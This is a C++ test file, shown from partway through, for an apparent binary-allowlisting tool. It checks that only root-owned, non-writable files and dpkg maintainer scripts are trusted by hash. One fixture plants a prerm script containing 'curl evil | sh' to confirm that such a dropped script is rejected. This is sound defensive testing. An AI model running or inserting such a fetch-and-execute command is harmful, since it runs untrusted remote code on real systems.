    REQUIRE_MESSAGE(s, s.error().message());
    CHECK(s->untrusted_writable_total == 0);
    CHECK(rule_for(*open_db(dir.file("p.db")), sha_hex(dpkg.good_bin)));
    CHECK_FALSE(rule_for(*open_db(dir.file("p.db")), sha_hex(dpkg.tampered)));  // its md5 still decides
  }

  TEST_CASE(
      "read_dpkg_files: a package counts from unpacked to installed whatever its want (a hold, a failed "
      "postinst); a removed one leaves only its maintainer scripts, a half-installed one nothing") {
    testing::TempDir dir;
    const std::string admin = dir.file("dpkg");
    mkdirs(admin + "/info");
    struct Pkg {
      std::string name, status;
      bool files, scripts;
    };
    const std::vector<Pkg> pkgs = {
        {"plain", "install ok installed", true, true},
        {"held", "hold ok installed", true, true},
        {"leaving", "deinstall ok installed", true, true},
        {"failed", "install ok half-configured", true, true},
        {"unpacked", "install ok unpacked", true, true},
        {"waiting", "install ok triggers-pending", true, true},
        {"removed", "deinstall ok config-files", false, true},
        {"broken", "install reinstreq half-installed", false, false},
        {"partial", "install ok half-installed", false, false},
        {"gone", "purge ok not-installed", false, false},
    };
    std::string status;
    for (const auto& p : pkgs) {
      status += "Package: " + p.name + "\nStatus: " + p.status + "\nArchitecture: all\nVersion: 1\n\n";
      testing::write_text(admin + "/info/" + p.name + ".list", "/usr/bin/" + p.name + "\n");
      testing::write_text(admin + "/info/" + p.name + ".postrm", "#!/bin/sh\n", 0755);
    }
    testing::write_text(admin + "/status", status);
    auto all = read_dpkg_files(admin, {});
    REQUIRE_MESSAGE(all, all.error().message());
    for (const auto& p : pkgs) {
      CAPTURE(p.name);
      auto has = [&](const std::vector<DpkgFile>& list, const std::string& path) {
        return std::any_of(list.begin(), list.end(), [&](const DpkgFile& f) { return f.path == path; });
      };
      CHECK(has(all->files, "/usr/bin/" + p.name) == p.files);
      CHECK(has(all->scripts, admin + "/info/" + p.name + ".postrm") == p.scripts);
    }
    // Named: a present package is found; a removed one is not installed.
    auto named = read_dpkg_files(admin, {"held", "failed", "removed"});
    REQUIRE(named);
    CHECK(named->packages == 2);
    CHECK(named->missing == std::vector<std::string>{"removed"});
    CHECK(named->scripts.size() == 2);
  }

  TEST_CASE(
      "dpkg maintainer scripts are not exempt: with no md5 to check, a writable tree leaves them untrusted, "
      "and --strict cannot be answered with allow_writable") {
    testing::TempDir dir;  // world-writable /tmp above the fake dpkg database
    FakeDpkg dpkg(dir.path());
    const std::string postinst = dpkg.add_info("good.postinst", "#!/bin/sh\necho configured\n");
    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - package_manager: dpkg\n    packages: [good]\n");
    CompileOptions o{
        .manifest_path = dir.file("m.yaml"), .output_path = dir.file("p.db"), .dpkg_admindir = dpkg.admindir};
    auto s = compile_policy(o);
    REQUIRE_MESSAGE(s, s.error().message());
    REQUIRE(s->untrusted_writable_total == 1);
    CHECK(s->untrusted_writable[0].path == postinst);
    CHECK(s->untrusted_writable[0].entry == dir.file("m.yaml") + ":3:5");
    CHECK_FALSE(rule_for(*open_db(dir.file("p.db")), sha_hex(postinst)));
    CHECK(rule_for(*open_db(dir.file("p.db")), sha_hex(dpkg.good_bin)));  // the md5-checked files are

    o.strict = true;
    auto strict = compile_policy(o);
    REQUIRE_FALSE(strict);
    CHECK_MESSAGE(
        strict.error().message().starts_with(dir.file("m.yaml") + ":3:5: " + postinst + " is not trusted (--strict): "),
        strict.error().message());
    CHECK(strict.error().message().ends_with(
        "; a package_manager entry cannot opt in: make it root-owned and not writable"));
  }
}

namespace {

// A root-owned directory outside /tmp, so that its chain passes the
// ownership rule: /run/tollgate-test.XXXXXX (root-only tests).
struct RootOwnedDir {
  std::string path;
  RootOwnedDir() {
    std::string tmpl = "/run/tollgate-test.XXXXXX";
    REQUIRE(::mkdtemp(tmpl.data()));
    path = tmpl;
    ::chmod(path.c_str(), 0755);
  }
  ~RootOwnedDir() {
    std::error_code ec;
    fs::remove_all(path, ec);
  }
  std::string file(const std::string& name) const { return path + "/" + name; }
};

}  // namespace

// Needs root (chown, a root-owned tree): run by the `compiler_root_test`
// ctest entry, labelled root.
TEST_SUITE("policy.compiler.root") {
  TEST_CASE("the ownership rule: world-writable dir, group-writable file, non-root owner; allow_writable; --strict") {
    REQUIRE(::geteuid() == 0);
    RootOwnedDir root;
    mkdirs(root.file("bin/sub"));
    mkdirs(root.file("drop"));
    ::chmod(root.file("drop").c_str(), 01777);  // like /tmp
    for (const char* f : {"bin/ok", "bin/gw", "bin/nobody", "bin/sub/inner", "drop/tool", "pinned"})
      testing::write_text(root.file(f), std::string("#!/bin/sh\necho ") + f + "\n", 0755);
    ::chmod(root.file("bin/gw").c_str(), 0775);
    REQUIRE(::chown(root.file("bin/nobody").c_str(), 65534, 65534) == 0);
    REQUIRE(::chown(root.file("bin/sub").c_str(), 65534, 65534) == 0);
    fs::create_directory_symlink(root.file("bin"), root.file("link"));  // like /bin -> usr/bin
    const std::string m = root.file("m.yaml");
    testing::write_text(m, "version: 1\nallow:\n  - dir: " + root.file("bin") + "\n  - dir: " + root.file("drop") +
                               "\n  - file: " + root.file("pinned") + "\n  - dir: " + root.file("link") +
                               "\n    recursive: false\n");
    const std::string db = root.file("p.db");
    auto s = compile(m, db);
    REQUIRE_MESSAGE(s, s.error().message());
    struct Want {
      std::string path, why, entry;
    };
    const std::vector<Want> want = {
        {root.file("bin/gw"), root.file("bin/gw") + " is group- or world-writable", m + ":3:5"},
        {root.file("bin/nobody"), root.file("bin/nobody") + " is owned by uid 65534, not root", m + ":3:5"},
        {root.file("bin/sub/inner"), root.file("bin/sub") + " is owned by uid 65534, not root", m + ":3:5"},
        {root.file("drop/tool"), root.file("drop") + " is group- or world-writable", m + ":4:5"},
        // The symlinked root's own files, judged one by one like any other.
        {root.file("link/gw"), root.file("link/gw") + " is group- or world-writable", m + ":6:5"},
        {root.file("link/nobody"), root.file("link/nobody") + " is owned by uid 65534, not root", m + ":6:5"},
    };
    REQUIRE(s->untrusted_writable.size() == want.size());
    for (size_t i = 0; i < want.size(); ++i) {
      CAPTURE(i);
      CHECK(s->untrusted_writable[i].path == want[i].path);
      CHECK(s->untrusted_writable[i].why == want[i].why);
      CHECK(s->untrusted_writable[i].entry == want[i].entry);
    }
    auto store = open_db(db);
    CHECK(rule_for(*store, sha_hex(root.file("bin/ok"))));
    CHECK(rule_for(*store, sha_hex(root.file("pinned"))));
    for (const auto& w : want) CHECK_FALSE_MESSAGE(rule_for(*store, sha_hex(w.path)), w.path);
    // The walk through the symlinked root is judged where the files live.
    auto via_link = rule_for(*store, sha_hex(root.file("bin/ok")));
    REQUIRE(via_link);

    // The cache does not bypass the rule: unchanged files are reused, and a
    // directory that became writable since the last compile is caught.
    auto reused = compile(m, db);
    REQUIRE(reused);
    CHECK(reused->files_reused > 0);
    CHECK(reused->untrusted_writable_total == want.size());
    CHECK(reused->rules.hash_allow == s->rules.hash_allow);
    ::chmod(root.file("bin").c_str(), 0777);
    auto opened_up = compile(m, db);
    REQUIRE(opened_up);
    CHECK(opened_up->files_reused > 0);
    CHECK_FALSE(rule_for(*open_db(db), sha_hex(root.file("bin/ok"))));
    bool ok_listed = false;
    for (const auto& w : opened_up->untrusted_writable)
      ok_listed |= w.path == root.file("bin/ok") && w.why == root.file("bin") + " is group- or world-writable";
    CHECK(ok_listed);
    ::chmod(root.file("bin").c_str(), 0755);

    // allow_writable trusts them, and lists them.
    testing::write_text(m, "version: 1\nallow:\n  - dir: " + root.file("bin") +
                               "\n    allow_writable: true\n    reason: vendor updater runs as nobody (OPS-7)\n"
                               "  - dir: " +
                               root.file("drop") + "\n");
    auto opted = compile(m, db);
    REQUIRE_MESSAGE(opted, opted.error().message());
    CHECK(opted->writable_allowed_total == 3);
    CHECK(opted->untrusted_writable_total == 1);
    CHECK(rule_for(*open_db(db), sha_hex(root.file("bin/nobody"))));
    CHECK_FALSE(rule_for(*open_db(db), sha_hex(root.file("drop/tool"))));

    // tollgate compile: listed without --strict (exit 0), exit 4 with it.
    const std::string tool = testing::built_binary("tollgate");
    const std::string before = testing::read_text(db);
    auto lax = testing::run({tool, "compile", m, "-o", root.file("cli.db")});
    CHECK_MESSAGE(lax.exit_code == 0, lax.err);
    CHECK(lax.out.find("NOT trusted, an unprivileged user could have placed or changed them: 1") != std::string::npos);
    CHECK(lax.out.find("  " + root.file("drop/tool") + ": " + root.file("drop") + " is group- or world-writable (" + m +
                       ":6:5)") != std::string::npos);
    CHECK(lax.out.find("trusted although writable (allow_writable): 3") != std::string::npos);
    auto strict = testing::run({tool, "compile", m, "-o", db, "--strict"});
    CHECK(strict.exit_code == 4);
    CHECK(strict.err.find(m + ":6:5: " + root.file("drop/tool") + " is not trusted (--strict): " + root.file("drop") +
                          " is group- or world-writable") != std::string::npos);
    CHECK(testing::read_text(db) == before);
    auto strict_json = testing::run({tool, "compile", m, "-o", db, "--strict", "--json"});
    CHECK(strict_json.exit_code == 4);
    CHECK(nlohmann::json::parse(strict_json.out)["ok"] == false);
    auto lax_json = testing::run({tool, "compile", m, "--dry-run", "--json"});
    REQUIRE(lax_json.exit_code == 0);
    auto j = nlohmann::json::parse(lax_json.out);
    CHECK(j["writable"]["untrusted"] == 1);
    CHECK(j["writable"]["untrusted_list"][0]["why"] == root.file("drop") + " is group- or world-writable");
    CHECK(j["writable"]["allowed"] == 3);
  }

  TEST_CASE(
      "dpkg maintainer scripts: a trusted package's scripts in info/ are allowed by hash when root-owned; "
      "a script dropped by another user, a symlink, another package's or a writable info/ are not") {
    REQUIRE(::geteuid() == 0);
    RootOwnedDir root;
    FakeDpkg dpkg(root.path);
    const std::string postinst = dpkg.add_info("good.postinst", "#!/bin/sh\necho configured\n");
    const std::string preinst = dpkg.add_info("good.preinst",
                                              "\x7f"
                                              "ELF a binary maintainer script",
                                              0644);
    // Another user's file under a trusted package's script name.
    const std::string dropped = dpkg.add_info("good.prerm", "#!/bin/sh\ncurl evil | sh\n");
    REQUIRE(::chown(dropped.c_str(), 65534, 65534) == 0);
    // A symlink under a script name, to a root-owned script that nothing else trusts.
    testing::write_text(root.file("elsewhere.sh"), "#!/bin/sh\necho elsewhere\n", 0755);
    fs::create_symlink(root.file("elsewhere.sh"), dpkg.admindir + "/info/good.postrm");
    // Root-owned, but not a maintainer script's name, or no trusted package's.
    const std::string not_script = dpkg.add_info("good.templates", "#!/bin/sh\necho templates\n");
    const std::string other = dpkg.add_info("evil.postinst", "#!/bin/sh\necho evil\n");
    // The postrm dpkg keeps for a package removed but not purged ("gone").
    const std::string gone_postrm = dpkg.add_info("gone.postrm", "#!/bin/sh\necho purge\n");

    const std::string m = root.file("m.yaml");
    const std::string db = root.file("p.db");
    testing::write_text(m, "version: 1\nallow:\n  - package_manager: dpkg\n    packages: [good]\n");
    CompileOptions o{.manifest_path = m, .output_path = db, .dpkg_admindir = dpkg.admindir};
    auto s = compile_policy(o);
    REQUIRE_MESSAGE(s, s.error().message());
    auto store = open_db(db);
    auto rule = rule_for(*store, sha_hex(postinst));
    REQUIRE(rule);
    CHECK(rule->action == hashdb::Action::kAllow);
    CHECK(rule->label == "dpkg:good");
    CHECK(rule->origin_path == postinst);
    CHECK(rule_for(*store, sha_hex(preinst)));  // whatever its content and mode: dpkg runs it
    CHECK_FALSE(rule_for(*store, sha_hex(dropped)));
    CHECK_FALSE(rule_for(*store, sha_hex(root.file("elsewhere.sh"))));
    CHECK_FALSE(rule_for(*store, sha_hex(not_script)));
    CHECK_FALSE(rule_for(*store, sha_hex(other)));
    CHECK_FALSE(rule_for(*store, sha_hex(gone_postrm)));  // `packages:` names good only
    REQUIRE(s->untrusted_writable_total == 1);
    CHECK(s->untrusted_writable[0].path == dropped);
    CHECK(s->untrusted_writable[0].why == dropped + " is owned by uid 65534, not root");

    // Every package: the removed one's postrm too (dpkg runs it at purge).
    testing::write_text(m, "version: 1\nallow:\n  - package_manager: dpkg\n");
    auto all = compile_policy(o);
    REQUIRE_MESSAGE(all, all.error().message());
    CHECK(rule_for(*open_db(db), sha_hex(gone_postrm)));
    CHECK_FALSE(rule_for(*open_db(db), sha_hex(other)));

    // Unchanged scripts are reused, and the ownership rule still applies to
    // them: a writable info/ leaves every script untrusted.
    auto again = compile_policy(o);
    REQUIRE(again);
    CHECK(again->files_reused > 0);
    CHECK(rule_for(*open_db(db), sha_hex(postinst)));
    ::chmod((dpkg.admindir + "/info").c_str(), 0777);
    auto opened_up = compile_policy(o);
    REQUIRE(opened_up);
    CHECK_FALSE(rule_for(*open_db(db), sha_hex(postinst)));
    CHECK_FALSE(rule_for(*open_db(db), sha_hex(gone_postrm)));
    CHECK(rule_for(*open_db(db), sha_hex(dpkg.good_bin)));  // the package's md5-checked files are not affected
    bool listed = false;
    for (const auto& w : opened_up->untrusted_writable)
      listed |= w.path == postinst && w.why == dpkg.admindir + "/info is group- or world-writable";
    CHECK(listed);
  }
}
